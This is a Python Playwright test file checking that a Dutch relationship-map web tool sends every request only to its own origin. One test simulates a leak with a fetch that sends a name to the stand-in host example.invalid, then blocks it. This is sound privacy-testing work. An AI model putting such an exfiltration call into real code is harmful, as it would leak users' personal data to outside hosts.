"""Nothing typed into the tool leaves the browser: every request, during load and a whole session,
goes to the site's own origin."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, expect

from .conftest import Watch
from .test_map_flow import drag_to_ring, fill_three
from .tool import node, open_tool


def test_every_request_goes_to_the_own_origin(watched: tuple[BrowserContext, Watch], site_url: str, tmp_path: Path) -> None:
    context, watch = watched
    page = open_tool(context.new_page(), site_url)
    fill_three(page)
    drag_to_ring(page, "Anna de Vries", "kk-ring-less_often", "kk-ring-monthly")
    expect(node(page, "Anna de Vries")).to_have_attribute("data-ring", "less_often")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download als bestand (.json)").click()
    saved = tmp_path / "kaart.json"
    download.value.save_as(saved)
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Open een bestand (.json of .svg)").click()
    chooser.value.set_files(saved)
    expect(page.get_by_role("status").filter(has_text="kaart.json")).to_be_visible()
    page.reload()
    open_tool(page, site_url)

    # The runtime really came from this site: the check below is not vacuous.
    paths = {urlsplit(u).path for u in watch.requests}
    for needed in (
        "/runtime/pyodide/pyodide.asm.wasm",
        "/runtime/pyodide/python_stdlib.zip",
        "/runtime/svgwrite-1.4.3-py3-none-any.whl",
    ):
        assert needed in paths
    assert any(p.startswith("/runtime/kenniskring-") and p.endswith(".zip") for p in paths)
    assert watch.foreign() == []
    assert {urlsplit(u).netloc for u in watch.requests if urlsplit(u).scheme.startswith("http")} == {urlsplit(site_url).netloc}


def test_the_foreign_request_check_catches_a_leak(watched: tuple[BrowserContext, Watch], site_url: str) -> None:
    """The guard itself works: a request to another origin is seen (and blocked here, never sent)."""
    context, watch = watched
    context.route("http://example.invalid/**", lambda route: route.abort())
    page = context.new_page()
    page.goto(site_url)
    page.evaluate("fetch('http://example.invalid/leak?name=Anna').catch(() => null)")
    page.wait_for_timeout(200)
    assert watch.foreign() == ["http://example.invalid/leak?name=Anna"]
    watch.requests.clear()  # leave the fixture's own end-of-test check clean
